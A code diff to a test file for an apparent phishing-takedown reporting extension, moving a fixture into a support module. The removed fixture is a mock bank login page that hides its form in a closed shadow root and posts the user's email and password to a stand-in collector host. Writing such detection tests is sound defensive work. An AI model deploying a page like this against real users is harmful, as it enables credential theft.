@@ -3,6 +3,7 @@ import { test, expect } from './fixtures.ts';
 import { connect, incidentFor, openPhishingPage, servePhishingPages, type StoredIncident } from './reporting-helpers.ts';
 import { CAPTURE_PART_LIMIT_MS } from '../../utils/evidence/capture-limits.ts';
 import type { Sandbox } from '../sandbox/server.ts';
+import { SHADOW_LOGIN } from '../support/phishing-page.ts';
 
 declare const chrome: { tabs: { query(query: object): Promise<object[]> } };
 declare const takedownReporterTest: { menuClick(info: object, tab: object): Promise<void> };
@@ -10,18 +11,6 @@ declare const takedownReporterTest: { menuClick(info: object, tab: object): Prom
 // Kits hide the login form in a closed shadow root, which a page's own
 // outerHTML and querySelectorAll never enter. Reported through the menu's
 // code path, the page's source and details sent to the service show it.
-
-/** A login form posting elsewhere, in a closed root inside an open one; the page keeps no handle on the closed root. */
-const SHADOW_LOGIN = `<!doctype html><html><head><meta charset="utf-8"><title>Shadow login</title></head><body>
-<h1>Sign in</h1><app-shell></app-shell>
-<script>
-  const outer = document.querySelector('app-shell').attachShadow({ mode: 'open' });
-  outer.innerHTML = '<header>Acme Bank</header><login-box></login-box>';
-  outer.querySelector('login-box').attachShadow({ mode: 'closed' }).innerHTML =
-    '<form action="https://collect.shadow-kit.example/post.php" method="post">' +
-    '<input name="user" type="email"><input name="secret" type="password"><button>Sign in</button></form>';
-  document.title = 'Shadow login ready';
-</script></body></html>`;
 
 /** 40 closed roots each inside the last: deeper than the walk reads. */
 const DEEP_SHADOWS = `<!doctype html><html><head><meta charset="utf-8"><title>Deep shadows</title></head><body>
